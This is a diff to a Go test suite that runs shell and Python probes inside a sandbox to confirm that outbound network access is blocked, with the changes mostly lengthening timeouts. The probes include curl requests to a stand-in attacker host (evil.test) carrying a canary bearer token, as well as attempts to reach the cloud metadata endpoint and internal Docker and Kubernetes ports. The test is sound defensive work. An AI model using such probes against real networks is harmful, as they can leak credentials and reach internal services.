@@ -51,6 +51,7 @@ func waysOut(t *testing.T, engine, settings string) {
 		}
 		ok := t.Run(c.name, func(t *testing.T) {
 			w.t = t
+			w.revive()
 			w.heard()
 			w.gone()
 			c.run(t, w)
@@ -90,10 +91,11 @@ for labels in ([b'secret', b'evil', b'test'], [b'allowed', b'test'], [b'localhos
             code, n = ask(labels, kind, server, 1)
             if n or code == 0:
                 print('LEAK answered', labels, kind, server, code, n)
+tries = []
 for host in ('allowed.test', '93.184.215.14', '93.184.215.66', '198.18.0.1', '169.254.169.254', '10.88.0.1', '10.0.0.1', '8.8.8.8'):
-    for port in (80, 443, 22, 53, 853, 5432):
-        if (host, port) != ('10.88.0.1', 53) and reach(host, port) == 'connected':
-            print('LEAK connected', host, port)
+    tries += [(host, port) for port in (80, 443, 22, 53, 853, 5432) if (host, port) != ('10.88.0.1', 53)]
+for to in connected(tries):
+    print('LEAK connected', to)
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for port in (53, 123, 443, 4500, 5353):
     for host in ('93.184.215.14', '8.8.8.8', '224.0.0.251', '255.255.255.255', '10.88.0.255'):
@@ -130,7 +132,7 @@ for kind in (28, 16, 15, 5, 2, 33, 64, 65, 255, 252):
         print('LEAK an answer of kind', kind)
 for server in ('8.8.8.8', '1.1.1.1', '127.0.0.53', '93.184.215.14', '10.0.0.53'):
     for port in (53, 853, 443, 5353, 784):
-        if reach(server, port) == 'connected':
+        if connected([(server, port)]):
             print('LEAK connected to a resolver', server, port)
         code, n = ask([data, b'evil', b'test'], 1, (server, port), 1)
         if code == 0 or n:
@@ -264,8 +266,8 @@ except ConnectionResetError:
 openssl s_client -connect allowed.test:443 -servername allowed.test -sess_out /tmp/s </dev/null >/dev/null 2>&1
 ! openssl s_client -connect allowed.test:443 -servername evil.test -sess_in /tmp/s </dev/null >/dev/null 2>&1
 ! openssl s_client -connect allowed.test:443 -noservername </dev/null >/dev/null 2>&1
-! curl -ksS --max-time 5 --connect-to evil.test:443:allowed.test:443 https://evil.test/ 2>/dev/null
-! curl -sS --max-time 5 --fail --connect-to evil.test:80:allowed.test:80 http://evil.test/ 2>/dev/null
+! curl -ksS --max-time 30 --connect-to evil.test:443:allowed.test:443 https://evil.test/ 2>/dev/null
+! curl -sS --max-time 30 --fail --connect-to evil.test:80:allowed.test:80 http://evil.test/ 2>/dev/null
 `)
 	w.none(asksResolver, toAllowed80, toAllowed443)
 }
@@ -412,7 +414,7 @@ for host in (at, '93.184.215.14', '8.8.8.8', '10.88.0.1'):
         if (host, port) == ('10.88.0.1', 53):
             continue
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        s.settimeout(2)
+        s.settimeout(20)
         s.connect((host, port))
         began = time.time()
         try:
@@ -420,7 +422,7 @@ for host in (at, '93.184.215.14', '8.8.8.8', '10.88.0.1'):
             s.recv(100)
             print('LEAK a datagram was answered', host, port)
         except ConnectionRefusedError:
-            if time.time() - began > 1:
+            if time.time() - began > 10:
                 print('LEAK told late', host, port)
         except OSError as e:
             print('LEAK not told', host, port, e)
@@ -514,10 +516,10 @@ for n in names:
             continue
         if b' 403 ' not in a or b'egress.private' not in a:
             print('LEAK', n, port, a)
-for host in ('10.88.0.1', '127.0.0.1', '93.184.216.34', '10.88.0.3', '172.17.0.1'):
-    for port in (22, 80, 443, 2375, 6443, 7777, 8080, 10250, 5432):
-        if reach(host, port) == 'connected':
-            print('LEAK', host, port)
+# 10.88.0.3 is what is sent to all in the sandbox's network: gVisor sends there too, and nothing answers.
+for to in connected([(host, port) for host in ('10.88.0.1', '127.0.0.1', '93.184.216.34', '10.88.0.3', '172.17.0.1')
+                     for port in (22, 80, 443, 2375, 6443, 7777, 8080, 10250, 5432)]):
+    print('LEAK', to)
 `)
 	if _, requests := w.heard(); len(requests) > 0 {
 		t.Errorf("served: %+v", requests)
@@ -560,9 +562,9 @@ print(send(1000), send(1 << 20), send(10), send(1))
 func redirects(t *testing.T, w *town) {
 	w.must("exec", "box", "--", "sh", "-c", `
 for to in http://evil.test/x https://evil.test/x http://93.184.215.66/x http://169.254.169.254/latest/meta-data/ http://allowed.test@evil.test/ http://127.0.0.1:5432/ ftp://evil.test/ gopher://db.test:5432/_x; do
-  out=$(curl -sS -L --max-time 5 --location-trusted -H 'Authorization: Bearer canary' "http://allowed.test/to/$to" 2>&1) && case $out in *served*) echo "LEAK $to $out"; exit 1;; esac
+  out=$(curl -sS -L --max-time 30 --location-trusted -H 'Authorization: Bearer canary' "http://allowed.test/to/$to" 2>&1) && case $out in *served*) echo "LEAK $to $out"; exit 1;; esac
 done
-curl -sS -L --max-time 5 http://allowed.test/to/http://allowed.test/again | grep -q 'served /again'
+curl -sS -L --max-time 30 http://allowed.test/to/http://allowed.test/again | grep -q 'served /again'
 `)
 	_, requests := w.heard()
 	for _, q := range requests {
